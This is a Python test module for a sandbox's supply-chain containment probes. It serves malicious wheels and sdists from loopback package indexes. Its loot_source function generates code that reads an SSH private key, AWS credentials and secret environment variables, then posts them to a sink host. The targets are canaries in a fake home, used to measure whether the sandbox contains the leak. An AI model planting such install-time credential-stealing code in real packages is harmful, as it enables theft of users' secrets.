"""Supply-chain cases that run through the install phase (`corral install`), not `corral
run` alone: a case module with an `INSTALL` dict is run here (runner.Runner.cell hands it
over).

    INSTALL = {
        "indexes": {"A": {name: [artefact, ...]}, "B": {...}},   # served on loopback
        "args": ["--index-url", "{A}", "probe-pkg"],              # corral install's
        "requirements": "--extra-index-url {B}\nprobe-pkg\n",     # optional: -r FILE
        "run": "pass",          # optional: python3 -c CODE on the installed image, on the tier
        "control": [...],       # the host pip argv (after `python3 -m pip`), same fields
        "control_run": True,    # the control then starts a Python on what it installed
        "score": fn(obs) -> (contained, reason),   # optional; obs.hits = {"A": [...], ...}
    }

An artefact is ("wheel", files) or ("sdist", setup_py); every "{LOOT}" in a file is the
probe's loot code (every canary within reach, printed and posted to the sink). Each index is
`python3 -m http.server` over a PEP 503 tree on 127.0.0.1, its access log read back as
`obs.hits`. The attack is `corral install --image BASE` (BASE: $CORRAL_PROBE_IMAGE, default
`python`, in corral's store) with the supervisor holding the canary secrets, then, with
"run", `corral run --isolation TIER --image NEW -- python3 -c RUN`. The positive control is
pip on the host (`python3 -m pip install --target DIR`, no config files, HOME at the fake
home, the canary secret in its environment): with wheels-only off, no typosquat check, and
every index reachable, it must leak. Without the base image every such case is
*unsupported* (`corral image build python` makes it).

Everything is scored by the runner's evidence first (a canary in any output, at the sink or
in the DNS log; a fake-home file changed), then by the case's `score`.
"""

from __future__ import annotations

import base64
import hashlib
import io
import os
import shutil
import socket
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile

PY = "/usr/bin/python3"


def base_image() -> str:
    return os.environ.get("CORRAL_PROBE_IMAGE") or "python"


def loot_source(c: dict, marker: str) -> str:
    """Python that gathers every canary within reach, prints it, posts it to the sink and
    leaves `marker` (a path the code can write where it runs: scratch or the control's
    own directory)."""
    return "\n".join([
        "import os, socket",
        "loot = os.environ.get('CORRAL_PROBE_SECRET', '') + ' ' + os.environ.get('PROBE_DATA', '')",
        f"for p in ({c['FAKE_HOME']!r} + '/.ssh/id_ed25519', {c['FAKE_HOME']!r} + '/.aws/credentials'):",
        "    try:",
        "        loot += ' ' + open(p).read()",
        "    except OSError:",
        "        pass",
        "print('LOOT', loot, flush=True)",
        "try:",
        f"    socket.create_connection(({c['SINK_HOST']!r}, {c['SINK_PORT']}), timeout=2).sendall(loot.encode())",
        "except OSError:",
        "    pass",
        "try:",
        f"    open(os.environ.get('PROBE_MARKER', {marker!r}), 'w').write('ran')",
        "except OSError:",
        "    pass",
        ""])


def make_wheel(d: str, name: str, version: str, files: dict, requires=()) -> str:
    dist = f"{name.replace('-', '_')}-{version}.dist-info"
    entries = dict(files)
    entries[f"{dist}/METADATA"] = (f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
                                   + "".join(f"Requires-Dist: {r}\n" for r in requires))
    entries[f"{dist}/WHEEL"] = ("Wheel-Version: 1.0\nGenerator: corral-probe\n"
                                "Root-Is-Purelib: true\nTag: py3-none-any\n")
    record = []
    for p, data in entries.items():
        h = base64.urlsafe_b64encode(hashlib.sha256(data.encode()).digest()).rstrip(b"=")
        record.append(f"{p},sha256={h.decode()},{len(data.encode())}")
    entries[f"{dist}/RECORD"] = "\n".join(record + [f"{dist}/RECORD,,"]) + "\n"
    path = os.path.join(d, f"{name.replace('-', '_')}-{version}-py3-none-any.whl")
    with zipfile.ZipFile(path, "w") as z:
        for p, data in entries.items():
            z.writestr(p, data)
    return path


def make_sdist(d: str, name: str, version: str, setup_py: str) -> str:
    base = f"{name.replace('-', '_')}-{version}"
    path = os.path.join(d, base + ".tar.gz")
    with tarfile.open(path, "w:gz") as tf:
        for p, data in {"setup.py": setup_py,
                        "PKG-INFO": f"Metadata-Version: 1.0\nName: {name}\nVersion: {version}\n"
                        }.items():
            ti = tarfile.TarInfo(f"{base}/{p}")
            ti.size = len(data.encode())
            tf.addfile(ti, io.BytesIO(data.encode()))
    return path


class Index:
    """A PEP 503 simple index over some artefacts, served by http.server on 127.0.0.1."""

    def __init__(self, root: str, packages: dict, loot: str) -> None:
        self.root = root
        files = os.path.join(root, "files")
        os.makedirs(files)
        for name, artefacts in packages.items():
            d = os.path.join(root, "simple", name)
            os.makedirs(d)
            links = []
            for kind, version, body in artefacts:
                if kind == "wheel":
                    f = make_wheel(files, name, version, {k: v.replace("{LOOT}", loot)
                                                          for k, v in body.items()})
                else:
                    f = make_sdist(files, name, version, body.replace("{LOOT}", loot))
                with open(f, "rb") as fh:
                    digest = hashlib.sha256(fh.read()).hexdigest()
                links.append(f'<a href="/files/{os.path.basename(f)}#sha256={digest}">'
                             f'{os.path.basename(f)}</a><br>')
            with open(os.path.join(d, "index.html"), "w") as out:
                out.write("<html><body>\n" + "\n".join(links) + "\n</body></html>\n")
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            self.port = s.getsockname()[1]
        self.log_path = os.path.join(root, "access.log")
        self.log = open(self.log_path, "w")
        self.proc = subprocess.Popen([PY, "-m", "http.server", "--bind", "127.0.0.1",
                                      "--directory", root, str(self.port)],
                                     stdout=self.log, stderr=subprocess.STDOUT,
                                     stdin=subprocess.DEVNULL)
        deadline = time.monotonic() + 20
        while True:
            try:
                socket.create_connection(("127.0.0.1", self.port), 1).close()
                break
            except OSError:
                if time.monotonic() > deadline:
                    raise
                time.sleep(0.05)
        self.url = f"http://127.0.0.1:{self.port}/simple"
        self._seen = 0

    def take(self) -> list[str]:
        """Request lines logged since the last take."""
        self.log.flush()
        with open(self.log_path) as f:
            lines = [x for x in f.read().splitlines() if '"GET ' in x]
        new, self._seen = lines[self._seen:], len(lines)
        return [x.split('"')[1] for x in new]

    def close(self) -> None:
        self.proc.terminate()
        self.proc.wait(10)
        self.log.close()


def _fill(obj, subst: dict):
    if isinstance(obj, str):
        for k, v in subst.items():
            obj = obj.replace("{" + k + "}", v)
        return obj
    if isinstance(obj, (list, tuple)):
        return [_fill(x, subst) for x in obj]
    return obj


def cell(runner, case, tier: str):
    """One install-phase case on one tier: the runner's Cell."""
    from .runner import CONTAINED, INCONCLUSIVE, INVALID, NOT_CONTAINED, REFUSED, UNSUPPORTED, Cell

    t0 = time.monotonic()

    def done(status, contained, reason, expected=False):
        return Cell(case, tier, expected, status, contained, reason, time.monotonic() - t0)

    if tier == "process":
        return done(REFUSED, None, "refused by tier: the install phase and a run on an image "
                    "need a tier that can change the root (namespace, gvisor)")
    from ..errors import CorralError
    from ..images.store import Store

    try:
        store = Store()
        store.resolve(base_image())
    except CorralError as e:
        return done(UNSUPPORTED, None, f"unsupported: no base image here ({e.message})")
    spec = case.install
    work = tempfile.mkdtemp(prefix="corral-probe-install-")
    os.chmod(work, 0o755)
    loot = loot_source(runner.consts, os.path.join(work, "loot-ran"))
    indexes = {}
    try:
        for key, packages in spec["indexes"].items():
            indexes[key] = Index(os.path.join(work, f"index-{key}"), packages, loot)
        subst = {k: ix.url for k, ix in indexes.items()}
        obs = _control(runner, spec, work, subst, indexes)
        contained, control = _score(runner, case, obs)
        if contained is not False:
            status = UNSUPPORTED if control.startswith("unsupported") else INVALID
            return done(status, None, f"positive control did not succeed ({control})")
        obs = _attack(runner, spec, tier, work, subst, indexes, store)
        contained, reason = _score(runner, case, obs)
        if contained is None:
            status = UNSUPPORTED if reason.startswith("unsupported") else INCONCLUSIVE
        else:
            status = CONTAINED if contained else NOT_CONTAINED
        # the install phase is corral's own: claimed wherever it runs
        return done(status, contained, f"{reason} (control on the host: {control[:200]})",
                    True)
    finally:
        for ix in indexes.values():
            ix.close()
        shutil.rmtree(work, ignore_errors=True)


def _score(runner, case, obs):
    ev = runner.evidence(obs)
    if ev:
        return False, ev
    score = case.install.get("score")
    if score is not None:
        return score(obs)
    return True, "no canary reached any output or sink"


def _control(runner, spec, work, subst, indexes):
    """pip on the host, as a user without corral would run it."""
    from .runner import Obs

    target = os.path.join(work, "control-site")
    argv = [PY, "-m", "pip", "install", "--no-input", "--disable-pip-version-check",
            "--no-cache-dir", "--target", target, *_fill(spec["control"], subst)]
    if spec.get("requirements"):
        req = os.path.join(work, "control-req.txt")
        with open(req, "w") as f:
            f.write(_fill(spec["requirements"], subst))
        argv += ["-r", req]
    env = {"PATH": "/usr/bin:/bin", "HOME": runner.cn.home, "LANG": "C.UTF-8",
           "PIP_CONFIG_FILE": os.devnull, "PROBE_DATA": runner.cn.data,
           "CORRAL_PROBE_SECRET": runner.cn.token, "SSH_AUTH_SOCK": runner.cn.agent_path,
           "PROBE_MARKER": os.path.join(work, "loot-ran")}
    obs = Obs("host", "host", {})
    runner.cn.replant()
    runner.cn.sink.take()
    runner.cn.take_dns()
    t0 = time.monotonic()
    outs = []
    try:
        p = subprocess.run(argv, env=env, cwd=work, capture_output=True, text=True,
                           timeout=300, stdin=subprocess.DEVNULL)
        outs.append(p.stdout + p.stderr)
        if spec.get("control_run") and p.returncode == 0:
            r = subprocess.run([PY, "-c", f"import site; site.addsitedir({target!r})"],
                               env=env, cwd=work, capture_output=True, text=True, timeout=60,
                               stdin=subprocess.DEVNULL)
            outs.append(r.stdout + r.stderr)
    except subprocess.TimeoutExpired:
        obs.crashed = "the host control did not finish within 300s"
    obs.stdout = "\n".join(outs)
    obs.wall = time.monotonic() - t0
    runner._observe(obs)
    obs.hits = {k: ix.take() for k, ix in indexes.items()}
    return obs


def _attack(runner, spec, tier, work, subst, indexes, store):
    """corral install on the base image (and a run on the result), as a user runs them."""
    from .runner import Obs

    name = f"probe-{runner.cn.run_id}".lower()[:60]
    env = dict(os.environ, CORRAL_PROBE_SECRET=runner.cn.token,
               SSH_AUTH_SOCK=runner.cn.agent_path)
    env.pop("PROBE_MARKER", None)
    argv = [sys.executable, "-m", "corral.cli", "install", "--image", base_image(),
            "--name", name, *_fill(spec["args"], subst)]
    if spec.get("requirements"):
        req = os.path.join(work, "req.txt")
        with open(req, "w") as f:
            f.write(_fill(spec["requirements"], subst))
        argv += ["-r", req]
    obs = Obs("sandbox", tier, {})
    runner.cn.replant()
    runner.cn.sink.take()
    runner.cn.take_dns()
    t0 = time.monotonic()
    outs, errs = [], []
    try:
        p = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=1200,
                           stdin=subprocess.DEVNULL, pass_fds=runner.cn.passed_fds)
        obs.rc = p.returncode
        outs.append(p.stdout)
        errs.append(p.stderr)
        if spec.get("run") and p.returncode == 0:
            r = subprocess.run([sys.executable, "-m", "corral.cli", "run", "--isolation", tier,
                                "--image", name, "--env", "PROBE_DATA=" + runner.cn.data,
                                "--", "python3", "-c", spec["run"]],
                               env=env, capture_output=True, text=True, timeout=300,
                               stdin=subprocess.DEVNULL, pass_fds=runner.cn.passed_fds)
            outs.append(r.stdout)
            errs.append(r.stderr)
            obs.result = {"verdict": "ok" if r.returncode == 0 else f"exit {r.returncode}"}
    except subprocess.TimeoutExpired:
        obs.crashed = "corral install or run did not finish in time"
    finally:
        try:
            store.remove(name)
        except Exception:   # noqa: BLE001 - nothing was made (the install was refused)
            pass
    obs.stdout, obs.supervisor_stderr = "\n".join(outs), "\n".join(errs)
    obs.wall = time.monotonic() - t0
    runner._observe(obs)
    obs.hits = {k: ix.take() for k, ix in indexes.items()}
    return obs
